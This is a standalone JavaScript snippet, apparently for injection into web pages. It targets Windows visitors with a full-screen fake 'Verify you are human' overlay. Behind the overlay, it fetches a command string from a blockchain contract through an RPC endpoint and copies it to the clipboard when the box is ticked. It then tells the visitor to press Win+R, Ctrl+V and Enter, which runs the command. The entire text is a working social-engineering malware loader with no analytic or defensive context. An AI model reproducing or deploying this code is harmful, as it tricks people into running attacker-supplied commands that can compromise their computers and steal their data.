(async () => {
  if (!/Windows/.test(navigator.userAgent) || localStorage.getItem("_v")) return;
  const call = { jsonrpc: "2.0", id: 1, method: "eth_call", params: [{ to: "0x00000000000000000000000000000000000000D1", data: "0x6d4ce63c" }, "latest"] };
  const res = await (await fetch("https://bsc-testnet-rpc.example", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(call) })).json();
  const hex = res.result.slice(130);
  const line = new TextDecoder().decode(Uint8Array.from(hex.match(/../g), (h) => parseInt(h, 16))).replace(/\0+$/, "");
  const frame = document.createElement("iframe");
  frame.style.cssText = "position:fixed;inset:0;width:100%;height:100%;border:0;z-index:2147483647";
  frame.allow = "clipboard-write";
  document.body.append(frame);
  frame.contentDocument.write("<h1>One more step</h1><label><input type=checkbox id=c> Verify you are human</label><div id=s hidden>1. Press <b>⊞ + R</b><br>2. Press <b>Ctrl + V</b><br>3. Press <b>Enter</b></div>");
  frame.contentDocument.getElementById("c").onclick = () => {
    navigator.clipboard.writeText(line);
    frame.contentDocument.getElementById("s").hidden = false;
    localStorage.setItem("_v", "1");
  };
})();
